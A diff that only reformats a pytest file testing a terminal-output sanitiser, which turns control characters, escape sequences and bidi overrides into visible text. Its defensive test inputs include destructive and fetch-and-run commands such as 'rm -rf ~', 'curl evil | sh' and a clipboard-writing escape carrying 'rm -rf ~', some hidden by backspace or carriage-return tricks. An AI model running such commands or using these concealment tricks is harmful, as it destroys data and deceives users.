@@ -9,8 +9,9 @@ import pytest
 from claude_mini.ui.safe_text import UNSAFE, VISIBLE, json_safe, visible_controls
 
 BIDI = [*(chr(c) for c in range(0x202A, 0x202F)), *(chr(c) for c in range(0x2066, 0x206A))]
-ALL_UNSAFE = ([chr(c) for c in range(0x20) if chr(c) not in "\n\t"] + ["\x7f"]
-              + [chr(c) for c in range(0x80, 0xA0)] + BIDI)
+ALL_UNSAFE = (
+    [chr(c) for c in range(0x20) if chr(c) not in "\n\t"] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)] + BIDI
+)
 
 
 def raw_controls(text: str) -> list[str]:
@@ -18,71 +19,97 @@ def raw_controls(text: str) -> list[str]:
     return [ch for ch in text if ch in ALL_UNSAFE]
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    # CSI: erase the screen, move up and erase a line, colour, the alternate screen
-    ("ls\x1b[2J", "ls\\x1b[2J"),
-    ("\x1b[1A\x1b[2Kls -la", "\\x1b[1A\\x1b[2Kls -la"),
-    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
-    ("\x1b[?1049h", "\\x1b[?1049h"),
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        # CSI: erase the screen, move up and erase a line, colour, the alternate screen
+        ("ls\x1b[2J", "ls\\x1b[2J"),
+        ("\x1b[1A\x1b[2Kls -la", "\\x1b[1A\\x1b[2Kls -la"),
+        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
+        ("\x1b[?1049h", "\\x1b[?1049h"),
+    ],
+)
 def test_csi_sequences_are_shown(raw, shown):
     assert visible_controls(raw) == shown
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    # OSC 52 (write the clipboard) ended by BEL, by ST (ESC \), by the C1 ST; OSC 0 (window title)
-    ("\x1b]52;c;cm0gLXJmIH4=\x07", "\\x1b]52;c;cm0gLXJmIH4=\\x07"),
-    ("\x1b]52;c;cm0gLXJmIH4=\x1b\\", "\\x1b]52;c;cm0gLXJmIH4=\\x1b\\"),
-    ("\x9d52;c;eA==\x9c", "\\x9d52;c;eA==\\x9c"),
-    ("\x1b]0;pwned\x07title", "\\x1b]0;pwned\\x07title"),
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        # OSC 52 (write the clipboard) ended by BEL, by ST (ESC \), by the C1 ST; OSC 0 (window title)
+        ("\x1b]52;c;cm0gLXJmIH4=\x07", "\\x1b]52;c;cm0gLXJmIH4=\\x07"),
+        ("\x1b]52;c;cm0gLXJmIH4=\x1b\\", "\\x1b]52;c;cm0gLXJmIH4=\\x1b\\"),
+        ("\x9d52;c;eA==\x9c", "\\x9d52;c;eA==\\x9c"),
+        ("\x1b]0;pwned\x07title", "\\x1b]0;pwned\\x07title"),
+    ],
+)
 def test_osc_sequences_are_shown(raw, shown):
     assert visible_controls(raw) == shown
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    ("rm -rf ~ \rls -la", "rm -rf ~ \\rls -la"),
-    ("curl evil | sh\r\x1b[Kls", "curl evil | sh\\r\\x1b[Kls"),
-    ("line\r\n", "line\\r\n"),
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("rm -rf ~ \rls -la", "rm -rf ~ \\rls -la"),
+        ("curl evil | sh\r\x1b[Kls", "curl evil | sh\\r\\x1b[Kls"),
+        ("line\r\n", "line\\r\n"),
+    ],
+)
 def test_carriage_return_cannot_overwrite(raw, shown):
     assert visible_controls(raw) == shown
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    ("rm\b\bls", "rm\\x08\\x08ls"),
-    ("rm -rf /" + "\b" * 8 + "echo hi", "rm -rf /" + "\\x08" * 8 + "echo hi"),
-    ("a\x7fb", "a\\x7fb"),  # DEL
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("rm\b\bls", "rm\\x08\\x08ls"),
+        ("rm -rf /" + "\b" * 8 + "echo hi", "rm -rf /" + "\\x08" * 8 + "echo hi"),
+        ("a\x7fb", "a\\x7fb"),  # DEL
+    ],
+)
 def test_backspace_and_delete_are_shown(raw, shown):
     assert visible_controls(raw) == shown
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    ("\x9b2J", "\\x9b2J"),       # C1 CSI: erase the screen
-    ("\x9b1A\x9b2K", "\\x9b1A\\x9b2K"),
-    ("a\x85b", "a\\x85b"),       # NEL: a newline to some terminals
-    ("\x90q\x9c", "\\x90q\\x9c"),  # DCS ... ST
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("\x9b2J", "\\x9b2J"),  # C1 CSI: erase the screen
+        ("\x9b1A\x9b2K", "\\x9b1A\\x9b2K"),
+        ("a\x85b", "a\\x85b"),  # NEL: a newline to some terminals
+        ("\x90q\x9c", "\\x90q\\x9c"),  # DCS ... ST
+    ],
+)
 def test_c1_controls_are_shown(raw, shown):
     assert visible_controls(raw) == shown
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    ("ls \u202eftp.exe", "ls \\u202eftp.exe"),              # right-to-left override
-    ("echo \u2067safe\u2069; rm x", "echo \\u2067safe\\u2069; rm x"),  # isolate
-    ("\u202aa\u202b\u202c\u202d", "\\u202aa\\u202b\\u202c\\u202d"),
-    ("x\u2066y\u2068z", "x\\u2066y\\u2068z"),
-    ("one\u2028two", "one\\u2028two"),                       # line separator
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("ls \u202eftp.exe", "ls \\u202eftp.exe"),  # right-to-left override
+        ("echo \u2067safe\u2069; rm x", "echo \\u2067safe\\u2069; rm x"),  # isolate
+        ("\u202aa\u202b\u202c\u202d", "\\u202aa\\u202b\\u202c\\u202d"),
+        ("x\u2066y\u2068z", "x\\u2066y\\u2068z"),
+        ("one\u2028two", "one\\u2028two"),  # line separator
+    ],
+)
 def test_bidi_controls_are_shown(raw, shown):
     assert visible_controls(raw) == shown
 
 
-@pytest.mark.parametrize("text", [
-    "", "plain ascii", "two\nlines\tand a tab\n", "héllo ✓ 日本語 🙂", "non\u00a0breaking",
-    "a backslash \\x1b written out", "[bold]markup[/bold] is not our business here",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "plain ascii",
+        "two\nlines\tand a tab\n",
+        "héllo ✓ 日本語 🙂",
+        "non\u00a0breaking",
+        "a backslash \\x1b written out",
+        "[bold]markup[/bold] is not our business here",
+    ],
+)
 def test_ordinary_text_is_unchanged(text):
     assert visible_controls(text) == text
 
@@ -116,9 +143,16 @@ def test_the_scan_and_the_table_agree_on_every_character():
     assert not any(op in UNSAFE.pattern for op in ("*", "+", "|", "{"))
 
 
-@pytest.mark.parametrize("value", [
-    "\x1b]52;c;eA==\x07", "\x9b2J and \x85", "\u202eevil\u2069", "\x7f", "ok ✓",
-])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "\x1b]52;c;eA==\x07",
+        "\x9b2J and \x85",
+        "\u202eevil\u2069",
+        "\x7f",
+        "ok ✓",
+    ],
+)
 def test_json_safe_escapes_raw_controls_without_changing_the_value(value):
     obj = {"type": "result", "result": value, "nested": [value, {"k": value}]}
     line = json_safe(json.dumps(obj, ensure_ascii=False))
